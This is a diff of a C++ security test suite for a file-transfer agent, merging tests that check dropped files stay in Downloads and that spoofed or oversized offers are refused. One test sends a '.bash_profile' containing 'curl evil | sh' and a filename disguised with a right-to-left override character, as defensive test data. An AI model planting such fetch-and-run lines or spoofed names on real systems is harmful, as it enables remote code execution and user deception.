@@ -176,7 +176,7 @@ TEST(AgentUnderAttack, AFloodFromANeighbourBarelyGrowsTheLogAndCannotKeepItOverI
     EXPECT_LT(now + previous - (logCap - 1999), 64u * 1024) << agent.log();
 }
 
-TEST(AgentUnderAttack, FilesNeverLandInTheHomeFolderNorHidden) {
+TEST(AgentUnderAttack, FilesNeverLandInTheHomeFolderNorHiddenAndRefusalsAreSaid) {
     TestController paired;
     RunningAgent agent;
     // The user-dirs way of saying there is no download folder.
@@ -186,39 +186,26 @@ TEST(AgentUnderAttack, FilesNeverLandInTheHomeFolderNorHidden) {
     ASSERT_TRUE(paired.authenticateWithKey());
 
     sendFile(paired, 1, ".bash_profile", "curl evil | sh\n");
-    sendFile(paired, 2, "invoice\u202Efdp.sh", "#!/bin/sh\n");
-    const auto refused = paired.receiveType(wex::ControlType::error);
-    ASSERT_TRUE(refused);
-    EXPECT_NE(wex::ErrorMsg::decode(refused->payload).message.find("wasn't received"), std::string::npos);
+    sendFile(paired, 2, "invoice\u202Efdp.sh", "#!/bin/sh\n"); // refused, as request 1
+    // One byte over 2 GiB, and one the disk could never hold.
+    ASSERT_TRUE(paired.sendSealed(wex::ControlType::fileOffer,
+                                  wex::FileOffer{5, 3, (uint64_t{1} << 31) + 1, "movie.mkv"}.encode()));
+    ASSERT_TRUE(
+        paired.sendSealed(wex::ControlType::fileOffer, wex::FileOffer{6, 4, uint64_t{1} << 50, "disk.img"}.encode()));
+    for (const uint16_t reqId : {1, 5, 6}) {
+        const auto error = paired.receiveType(wex::ControlType::error);
+        ASSERT_TRUE(error) << reqId;
+        const auto message = wex::ErrorMsg::decode(error->payload);
+        EXPECT_EQ(message.reqId, reqId);
+        EXPECT_EQ(message.code, static_cast<uint8_t>(wex::ErrCode::refused));
+        EXPECT_FALSE(message.message.empty());
+    }
 
     const std::string downloads = agent.home.file("Downloads");
     ASSERT_TRUE(waitFor([&] { return fs::exists(downloads + "/_bash_profile"); })) << agent.log();
     EXPECT_FALSE(fs::exists(agent.home.file(".bash_profile")));
     EXPECT_EQ(modeOf(downloads), 0700u);
     EXPECT_EQ(filesIn(downloads), std::vector<std::string>{"_bash_profile"});
-}
-
-TEST(AgentUnderAttack, OffersOverTheLimitsAreRefusedAloudAndLeaveNothing) {
-    TestController paired;
-    RunningAgent agent;
-    ASSERT_NO_FATAL_FAILURE(agent.start(paired));
-    ASSERT_TRUE(paired.connect(agent.control, agent.input));
-    ASSERT_TRUE(paired.authenticateWithKey());
-
-    // One byte over 2 GiB, and one the disk could never hold.
-    ASSERT_TRUE(paired.sendSealed(wex::ControlType::fileOffer,
-                                  wex::FileOffer{5, 1, (uint64_t{1} << 31) + 1, "movie.mkv"}.encode()));
-    ASSERT_TRUE(
-        paired.sendSealed(wex::ControlType::fileOffer, wex::FileOffer{6, 2, uint64_t{1} << 50, "disk.img"}.encode()));
-    for (const uint16_t reqId : {5, 6}) {
-        const auto error = paired.receiveType(wex::ControlType::error);
-        ASSERT_TRUE(error);
-        const auto message = wex::ErrorMsg::decode(error->payload);
-        EXPECT_EQ(message.reqId, reqId);
-        EXPECT_EQ(message.code, static_cast<uint8_t>(wex::ErrCode::refused));
-        EXPECT_FALSE(message.message.empty());
-    }
-    EXPECT_TRUE(filesIn(agent.home.file("Downloads")).empty());
 }
 
 TEST(AgentUnderAttack, AStopMidTransferLeavesNoPartialFileAndLeftoversGoAtStart) {
